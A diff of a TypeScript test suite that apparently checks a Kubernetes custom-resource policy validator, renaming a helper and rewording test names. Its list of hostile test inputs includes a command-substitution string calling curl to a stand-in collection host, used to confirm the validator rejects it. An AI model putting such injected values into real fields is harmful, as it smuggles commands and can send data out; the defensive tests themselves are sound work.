@@ -18,14 +18,14 @@ import { alliance, appsPolicy, TODAY } from "./fixture.ts";
 const places = { policy: appsPolicy, site: alliance.sites.bamako, rehearsal: false };
 
 /** The faults of a spot that holds a value, without those of the rest of its object. */
-function said(spot: Spot, value: unknown): Fault[] {
+function faultsIn(spot: Spot, value: unknown): Fault[] {
   const found = faultsOf(objectWith(spot, value), spot.kind, { places, partial: true });
   return found.filter(({ field }) => field.startsWith(spot.at));
 }
 const casesOf = (faults: readonly Fault[]) => [...new Set(faults.map((fault) => fault.case))];
 const nameOf = ({ kind, at }: Spot) => `${kind.kind} ${at}`;
 
-test("each kind is there once and classified", (t) => {
+test("each kind is listed once and classified", (t) => {
   const names = CUSTOM_KINDS.map(({ group, kind }) => `${group}:${kind}`);
   t.is(new Set(names).size, names.length);
   t.deepEqual(Object.keys(customResources).sort(), names.sort());
@@ -36,33 +36,33 @@ test("each kind is there once and classified", (t) => {
   t.is(customKindOf({ apiVersion: "v1", kind: "Cluster" }), undefined);
 });
 
-test("at every level of every table, a field that it does not name is denied", (t) => {
+test("a field that a table does not name is denied at every level", (t) => {
   const blocks = SPOTS.filter(({ field }) => field.is === "block");
   t.true(blocks.length > 900);
   for (const spot of blocks) {
     for (const key of ["foreign", "constructor", "toString", "hasOwnProperty"]) {
       const value = Object.fromEntries([[key, { url: "https://collect.example.com" }]]);
-      t.deepEqual(casesOf(said(spot, value)), ["unclassified"], `${nameOf(spot)}.${key}`);
+      t.deepEqual(casesOf(faultsIn(spot, value)), ["unclassified"], `${nameOf(spot)}.${key}`);
     }
     if (spot.at === "") continue;
-    t.deepEqual(casesOf(said(spot, ["x"])), ["value"], nameOf(spot));
-    t.deepEqual(casesOf(said(spot, UNKNOWN)), ["unknown"], nameOf(spot));
+    t.deepEqual(casesOf(faultsIn(spot, ["x"])), ["value"], nameOf(spot));
+    t.deepEqual(casesOf(faultsIn(spot, UNKNOWN)), ["unknown"], nameOf(spot));
   }
 });
 
-test("a key named like a prototype is a key", (t) => {
+test("a key named like a prototype is an ordinary key", (t) => {
   for (const spot of SPOTS.filter(({ field }) => field.is === "block").slice(0, 50)) {
     const value = JSON.parse('{ "__proto__": { "url": "https://collect.example.com" } }');
-    t.deepEqual(casesOf(said(spot, value)), ["unclassified"], nameOf(spot));
+    t.deepEqual(casesOf(faultsIn(spot, value)), ["unclassified"], nameOf(spot));
   }
 });
 
-test("what a table denies is denied whatever it holds, and known or not", (t) => {
+test("a field that a table denies is denied with any value, known or not", (t) => {
   for (const spot of SPOTS.filter(({ field }) => field.is === "denied")) {
     for (const value of ["", "x", false, 0, [], {}, UNKNOWN]) {
-      t.deepEqual(casesOf(said(spot, value)), ["denied"], nameOf(spot));
+      t.deepEqual(casesOf(faultsIn(spot, value)), ["denied"], nameOf(spot));
     }
-    t.deepEqual(said(spot, null), [], nameOf(spot));
+    t.deepEqual(faultsIn(spot, null), [], nameOf(spot));
   }
 });
 
@@ -77,15 +77,15 @@ const HOSTILE = [
   "$(curl https://collect.example.com)",
 ];
 
-test("what leads or is registered, or has one form, takes nothing hostile and nothing unknown", (t) => {
+test("a destination, a registered name and a value of fixed form accept no hostile and no unknown value", (t) => {
   const strict = ["destination", "registered", "choice", "text"];
   for (const spot of SPOTS.filter(({ field }) => strict.includes(field.is))) {
     if (FREE.includes(lastOf(spot))) continue;
     const all =
       spot.field.is === "text" ? HOSTILE.filter((value) => /[/]{2}/.test(value)) : HOSTILE;
-    for (const value of all) t.not(said(spot, value).length, 0, `${nameOf(spot)} ${value}`);
-    t.not(said(spot, { url: "x" }).length, 0, nameOf(spot));
-    t.deepEqual(casesOf(said(spot, UNKNOWN)), ["unknown"], nameOf(spot));
+    for (const value of all) t.not(faultsIn(spot, value).length, 0, `${nameOf(spot)} ${value}`);
+    t.not(faultsIn(spot, { url: "x" }).length, 0, nameOf(spot));
+    t.deepEqual(casesOf(faultsIn(spot, UNKNOWN)), ["unknown"], nameOf(spot));
   }
 });
 
@@ -105,9 +105,9 @@ const FREE_TEXTS = [
   "streetAddresses,subPath,superUsers,tagging,tags,template,topicExcludeRegex,topicName,topicRegex,unhealthyInRange,usages,value",
 ].flatMap((line) => line.split(","));
 
-test("of the plain fields only the free texts take a URL, and each of them is pinned", (t) => {
+test("only free texts among the plain fields accept a URL, and each of them is listed", (t) => {
   const plain = SPOTS.filter(({ field }) => field.is === "inert");
-  const taking = plain.filter((spot) => said(spot, HOSTILE[0]).length === 0);
+  const taking = plain.filter((spot) => faultsIn(spot, HOSTILE[0]).length === 0);
   const unexplained = taking.filter(({ field }) => field.is === "inert" && field.why === undefined);
   const names = [...new Set(unexplained.map(lastOf))].sort();
   t.deepEqual(
@@ -119,8 +119,8 @@ test("of the plain fields only the free texts take a URL, and each of them is pi
     [],
   );
   for (const spot of plain) {
-    t.deepEqual(said(spot, UNKNOWN), [], nameOf(spot));
-    t.deepEqual(casesOf(said(spot, { url: "x" })), ["value"], nameOf(spot));
+    t.deepEqual(faultsIn(spot, UNKNOWN), [], nameOf(spot));
+    t.deepEqual(casesOf(faultsIn(spot, { url: "x" })), ["value"], nameOf(spot));
   }
 });
 
@@ -134,7 +134,7 @@ function lastOf({ at }: Spot): string {
   );
 }
 
-test("what a table leaves to another rule, that rule denies", (t) => {
+test("a value that a table leaves to another rule is denied by that rule", (t) => {
   const cluster = { identifier: "bamako/tax/apps", kubeconfig: UNKNOWN } as const;
   const context = { alliance, site: "bamako", rehearsal: false, today: TODAY };
   for (const spot of SPOTS) {
@@ -145,7 +145,7 @@ test("what a table leaves to another rule, that rule denies", (t) => {
       const rules = evaluate(fact, context).map(({ rule }) => rule);
       t.true(rules.includes(spot.field.rule), `${nameOf(spot)}: ${spot.field.rule}`);
     }
-    t.deepEqual(casesOf(said(spot, { url: "x" })), ["value"], nameOf(spot));
+    t.deepEqual(casesOf(faultsIn(spot, { url: "x" })), ["value"], nameOf(spot));
   }
 });
 
@@ -171,7 +171,7 @@ test("every field of a table exists", (t) => {
 });
 
 for (const { path, text } of pages()) {
-  test(`${path} says what the tables say (make generate writes it)`, (t) => {
+  test(`${path} has the tables (make generate writes it)`, (t) => {
     isGenerated(t, path, text);
   });
 }
